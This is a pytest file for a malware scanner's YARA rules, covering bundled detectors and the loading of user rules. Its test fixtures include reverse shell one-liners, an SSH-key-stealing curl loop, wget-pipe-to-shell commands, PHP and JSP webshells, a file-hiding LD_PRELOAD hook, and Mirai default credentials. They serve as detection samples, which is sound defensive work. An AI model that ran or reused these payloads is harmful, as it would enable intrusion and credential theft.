"""The bundled YARA rules (each fires on what it describes, none on ordinary Debian files) and
the loading and scanning of user rules."""

from __future__ import annotations

import re
import subprocess
import sysconfig
from collections.abc import Iterator
from importlib import resources
from pathlib import Path

import pytest
import yara  # type: ignore[import-not-found]

from aasee.processing.static import YaraRules, load_rules
from aasee.processing.static.yara_scan import YaraScanError

from .builders import (
    IMAGE_SCN_CNT_CODE,
    IMAGE_SCN_MEM_EXECUTE,
    IMAGE_SCN_MEM_READ,
    IMAGE_SCN_MEM_WRITE,
    PeSpec,
    build_pe,
    gcc,
    random_bytes,
    segments_only_elf64,
    string_table_program,
    upx_like_elf,
)
from .conftest import Programs

RULES_DIR = resources.files("aasee.processing.static").joinpath("rules")
SEVERITIES = {"info", "low", "medium", "high", "critical"}


def rule_names(rules: YaraRules, data: bytes) -> set[str]:
    return {match.rule for match in rules.scan(data)}


def test_bundled_rules_compile_without_warnings() -> None:
    sources = {
        entry.name: entry.read_text("utf-8")
        for entry in RULES_DIR.iterdir()
        if entry.name.endswith(".yar")
    }
    assert len(sources) >= 9
    compiled = yara.compile(sources=sources, error_on_warning=True)
    assert sum(1 for _ in compiled) >= 15


def test_every_bundled_rule_is_described(rules: YaraRules) -> None:
    seen = 0
    for rule_set in rules.sets:
        for rule in rule_set.rules:
            seen += 1
            meta = rule.meta
            assert rule.identifier.startswith("AASEE_"), rule.identifier
            assert meta.get("author") == "AASEE", rule.identifier
            assert len(meta.get("description", "")) > 20, rule.identifier
            assert meta.get("severity") in SEVERITIES, rule.identifier
            assert re.fullmatch(r"T\d{4}(\.\d{3})?", meta.get("attack", "")), rule.identifier
    assert seen == rules.rule_count >= 15


MIRAI = [
    "/dev/watchdog",
    "/dev/misc/watchdog",
    "/bin/busybox MIRAI",
    "MIRAI: applet not found",
    "xc3511",
    "vizxv",
    "juantech",
    "Zte521",
]
GAFGYT = ["PING", "KILLATTK", "LOLNOGTFO", "GETLOCALIP", "SCANNER ON", "Flooding %s"]
HOOK_SO = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
static const char *preload = "/etc/ld.so.preload";
struct dirent *readdir(DIR *dir) {
    static struct dirent *(*real)(DIR *);
    struct dirent *entry;
    if (!real) real = dlsym(RTLD_NEXT, "readdir");
    while ((entry = real(dir)) && strstr(entry->d_name, "hidden")) {}
    return entry;
}
struct dirent64 *readdir64(DIR *dir) {
    static struct dirent64 *(*real)(DIR *);
    if (!real) real = dlsym(RTLD_NEXT, "readdir64");
    return real(dir);
}
int is_preload(const char *path) { return strcmp(path, preload) == 0; }
"""
KERNEL_MODULE = r"""
const char modinfo[] __attribute__((section(".modinfo"))) =
    "vermagic=6.1.0-18-amd64 SMP mod_unload";
const char *const wanted[] = {
    "sys_call_table", "kallsyms_lookup_name", "__x64_sys_getdents64", "filldir"};
int hide_pid = 1;
"""


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    folder = tmp_path_factory.mktemp("yara")
    module = folder / "rootkit.o"
    gcc(KERNEL_MODULE, module, "-c")
    return {
        "mirai": gcc(string_table_program(MIRAI), folder / "mirai").read_bytes(),
        "gafgyt": gcc(string_table_program(GAFGYT), folder / "gafgyt", "-static").read_bytes(),
        "hook": gcc(HOOK_SO, folder / "libhide.so", "-shared", "-fPIC", "-ldl").read_bytes(),
        "module": module.read_bytes(),
    }


TEXT_POSITIVES = {
    "AASEE_Stratum_Crypto_Miner": (
        '{"pools": [{"url": "stratum+tcp://pool.example.com:3333"}], "randomx": {"mode": "fast"}}'
    ),
    "AASEE_XMRig_Miner": (
        '{"api": {"id": null}, "donate-level": 1, "user-agent": "xmrig/6.21"} '
        'log-file: xmrig.log "coin": "monero", "pools": []'
    ),
    "AASEE_PHP_Webshell": "<?php if (isset($_POST['c'])) { system($_POST['c']); } ?>",
    "AASEE_JSP_Webshell": (
        '<%@ page import="java.io.*" %>'
        '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>'
    ),
    "AASEE_Reverse_Shell_Command": "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
    "AASEE_SSH_Key_Theft": (
        "#!/bin/sh\nfor k in /root/.ssh/id_rsa /home/*/.ssh/id_rsa; do\n"
        '  curl -s -F "f=@$k" https://x.example/u\ndone\n'
    ),
    "AASEE_Ransom_Note_Language": (
        "ALL YOUR FILES HAVE BEEN ENCRYPTED!\n"
        "To decrypt your files send 0.1 Bitcoin to the wallet below.\n"
    ),
    "AASEE_Download_And_Execute": (
        "#!/bin/sh\ncd /tmp || cd /var/run || cd /dev/shm; wget http://203.0.113.9/x.sh -O- | sh\n"
    ),
}


@pytest.mark.parametrize("rule", sorted(TEXT_POSITIVES))
def test_text_positive(rules: YaraRules, rule: str) -> None:
    assert rule in rule_names(rules, TEXT_POSITIVES[rule].encode())


@pytest.mark.parametrize(
    "text",
    [
        "nc -e /bin/sh 203.0.113.9 4444",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
        "python3 -c 'import socket,os,pty;s=socket.socket();"
        's.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
        "socat tcp-connect:203.0.113.9:4444 exec:'bash -li',pty",
    ],
)
def test_reverse_shell_variants(rules: YaraRules, text: str) -> None:
    assert "AASEE_Reverse_Shell_Command" in rule_names(rules, text.encode())


def test_elf_positives(rules: YaraRules, built: dict[str, bytes]) -> None:
    assert "AASEE_Mirai_Like_IoT_Bot" in rule_names(rules, built["mirai"])
    assert "AASEE_Gafgyt_Like_IoT_Bot" in rule_names(rules, built["gafgyt"])
    assert "AASEE_LD_PRELOAD_Rootkit" in rule_names(rules, built["hook"])
    assert "AASEE_Linux_Kernel_Rootkit" in rule_names(rules, built["module"])


def test_packer_positives(rules: YaraRules, programs: Programs) -> None:
    upx = upx_like_elf(programs.static.read_bytes())
    assert rule_names(rules, upx) == {"AASEE_UPX_Packed_ELF"}
    packed = segments_only_elf64(random_bytes(64 * 1024))
    assert rule_names(rules, packed) == {"AASEE_Packed_ELF_Without_Sections"}
    sections = [
        (b"UPX0", bytes(16), IMAGE_SCN_MEM_EXECUTE | IMAGE_SCN_MEM_READ | IMAGE_SCN_MEM_WRITE),
        (
            b"UPX1",
            random_bytes(4096),
            IMAGE_SCN_CNT_CODE | IMAGE_SCN_MEM_EXECUTE | IMAGE_SCN_MEM_READ,
        ),
    ]
    assert rule_names(rules, build_pe(PeSpec(sections=sections))) == {"AASEE_UPX_Packed_PE"}


def test_near_misses(rules: YaraRules, built: dict[str, bytes]) -> None:
    # One family trait alone is not the family.
    assert rule_names(rules, b"\x7fELF" + bytes(60) + b"/dev/watchdog\0/bin/busybox\0") == set()
    assert rule_names(rules, b"Your files have been encrypted by the backup tool.") == set()
    assert rule_names(rules, b"ls ~/.ssh/id_rsa; cat /root/.ssh/known_hosts") == set()
    assert rule_names(rules, b"curl -o out.tar.gz https://example.org/x.tar.gz") == set()
    assert rule_names(rules, b"<?php echo htmlspecialchars($_GET['q']); ?>") == set()


# Debian packages `make install` brings (or that every Debian system has): their programs,
# libraries and scripts are the ordinary files, whatever else the host has installed.
ORDINARY_PACKAGES = (
    "coreutils",
    "bash",
    "perl-base",
    "libc6",
    "util-linux",
    "procps",
    "iproute2",
    "kmod",
    "e2fsprogs",
    "cpio",
    "file",
    "openssl",
    "nftables",
    "debootstrap",
    "qemu-utils",
    "libvirt-clients",
    "libvirt-daemon-system",
)


def _ordinary_files() -> Iterator[Path]:
    for package in ORDINARY_PACKAGES:
        listed = subprocess.run(["dpkg", "-L", package], capture_output=True, text=True)
        assert listed.returncode == 0, f"Debian package {package} is not installed: {listed.stderr}"
        for name in sorted(listed.stdout.splitlines()):
            path = Path(name)
            if name.startswith(("/usr/share/doc/", "/usr/share/man/", "/usr/share/locale/")):
                continue
            if path.is_file() and not path.is_symlink() and path.stat().st_size < 8 << 20:
                yield path
    # The standard library of the Python running the tests.
    yield from sorted(Path(sysconfig.get_paths()["stdlib"]).glob("*.py"))


def test_no_match_on_ordinary_debian_files(rules: YaraRules, programs: Programs) -> None:
    scanned = 0
    hits = []
    for path in [
        programs.dynamic,
        programs.static,
        programs.stripped,
        programs.shared,
        *_ordinary_files(),
    ]:
        try:
            data = path.read_bytes()
        except OSError:
            continue
        scanned += 1
        hits += [(str(path), m.rule) for m in rules.scan(data)]
    assert scanned > 100
    assert hits == []


# --- user rules -----------------------------------------------------------------------------

GOOD_RULE = (
    'rule User_Marker : custom { meta: note = 3 strings: $a = "aasee-user-marker" condition: $a }\n'
)


def test_user_rules_and_a_broken_file(tmp_path: Path) -> None:
    (tmp_path / "good.yar").write_text(GOOD_RULE)
    (tmp_path / "broken.yara").write_text("rule Broken { condition: nonsense_identifier }\n")
    (tmp_path / "notes.txt").write_text("rule NotLoaded { condition: true }\n")
    loaded = load_rules(tmp_path)
    assert len(loaded.errors) == 1
    assert "broken.yara" in loaded.errors[0] and "nonsense_identifier" in loaded.errors[0]
    matches = loaded.scan(b"xx aasee-user-marker xx; wget http://x.example/a -O- | sh")
    by_rule = {m.rule: m for m in matches}
    user = by_rule["User_Marker"]
    assert (user.source, user.namespace, user.tags, user.meta) == (
        "user",
        "user",
        ["custom"],
        {"note": "3"},
    )
    assert user.strings[0].identifier == "$a" and user.strings[0].offset == 3
    assert user.strings[0].data == "aasee-user-marker"
    assert by_rule["AASEE_Download_And_Execute"].source == "bundled"


def test_user_files_defining_the_same_rule_both_load(tmp_path: Path) -> None:
    (tmp_path / "a.yar").write_text(GOOD_RULE)
    (tmp_path / "b.yar").write_text(GOOD_RULE.replace("aasee-user-marker", "second-marker"))
    loaded = load_rules(tmp_path)
    assert loaded.errors == []
    assert [m.rule for m in loaded.scan(b"second-marker")] == ["User_Marker"]
    assert [m.rule for m in loaded.scan(b"aasee-user-marker")] == ["User_Marker"]


def test_user_rules_see_the_file_name(tmp_path: Path) -> None:
    (tmp_path / "name.yar").write_text(
        'rule By_Name { condition: extension == "php" and filename matches /shell/ }\n'
    )
    loaded = load_rules(tmp_path)
    assert loaded.errors == []
    assert [m.rule for m in loaded.scan(b"x", name="myshell.php")] == ["By_Name"]
    assert loaded.scan(b"x", name="myshell.txt") == []


def test_missing_user_directory(tmp_path: Path) -> None:
    loaded = load_rules(tmp_path / "absent")
    assert len(loaded.errors) == 1 and "does not exist" in loaded.errors[0]
    assert loaded.rule_count == load_rules().rule_count


def test_scan_problems_are_reported(tmp_path: Path) -> None:
    (tmp_path / "greedy.yar").write_text('rule Greedy { strings: $a = "aa" condition: #a > 10 }\n')
    loaded = load_rules(tmp_path)
    data = b"a" * 3_000_000
    errors: list[str] = []
    assert [m.rule for m in loaded.scan(data, errors)] == ["Greedy"]
    assert len(errors) == 1 and "too many matches" in errors[0] and "Greedy" in errors[0]
    with pytest.raises(YaraScanError, match="too many matches"):
        loaded.scan(data)


def test_matched_bytes_are_escaped(tmp_path: Path) -> None:
    (tmp_path / "bin.yar").write_text("rule Bin { strings: $a = { 00 5C 41 FF } condition: $a }\n")
    match = load_rules(tmp_path).scan(b"\x00\\A\xff")[0]
    assert match.strings[0].data == "\\x00\\x5cA\\xff"
